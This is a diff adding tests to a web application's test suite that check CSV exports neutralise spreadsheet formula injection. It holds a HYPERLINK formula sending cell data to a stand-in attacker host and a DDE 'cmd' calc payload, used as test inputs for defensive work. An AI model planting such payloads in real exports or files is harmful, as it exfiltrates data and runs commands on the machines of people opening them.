@@ -6,6 +6,8 @@ networks (directly, or with a forged X-Forwarded-For), a page framed by another 
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import re
 import subprocess
@@ -18,9 +20,11 @@ from sqlalchemy import select
 
 from config import PRODUCTION, SettingsError, load_settings
 from gateway.app import environment_default
+from models.reports import ReportTable, to_csv
 from models.staff import StaffUser, issue_token
 from notifications.casework.payments import MAX_IMPORT_BYTES
-from tests.factories import PRODUCTION_SECRETS, make_staff
+from tests.factories import PRODUCTION_SECRETS, make_staff, register
+from tests.gateway.test_console_beneficiaries import log_in
 
 PROJECT_ROOT = Path(__file__).resolve().parents[2]
 PROVIDER_NETWORK = "196.201.214.0/24"
@@ -186,3 +190,30 @@ def test_a_too_large_api_request_gets_413_as_json(make_app, db, redis):
 
 def test_the_default_body_limit_leaves_room_for_the_largest_payment_import():
     assert load_settings({}, app_env="test").max_content_length > MAX_IMPORT_BYTES
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"Maseru")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def test_no_csv_download_can_carry_a_formula(client, db):
+    for number, formula in enumerate(FORMULAS):
+        register(db, full_name=f"Thabo {chr(65 + number)}", village=formula, district="Berea")
+    log_in(client, db)
+    response = client.get("/beneficiaries/export.csv")
+    assert response.status_code == 200
+    villages = [row["village"] for row in csv.DictReader(io.StringIO(response.get_data(as_text=True), newline=""))]
+    assert sorted(villages) == sorted("'" + formula for formula in FORMULAS)
+
+
+def test_report_csv_cells_are_neutralised_and_numbers_kept():
+    table = ReportTable(
+        name="t", title="t", columns=["district", "count"], rows=[["=cmd|' /C calc'!A0", -3]], totals=["Total", 1]
+    )
+    assert to_csv(table).splitlines()[1] == "'=cmd|' /C calc'!A0,-3"
+
+
+def test_every_csv_writer_is_the_safe_one():
+    packages = ("config", "devtools", "gateway", "menus", "models", "notifications")
+    sources = [path for package in packages for path in (PROJECT_ROOT / package).rglob("*.py")]
+    writers = [path for path in sources if "csv.writer(" in path.read_text()]
+    assert writers == [PROJECT_ROOT / "models" / "spreadsheet.py"]
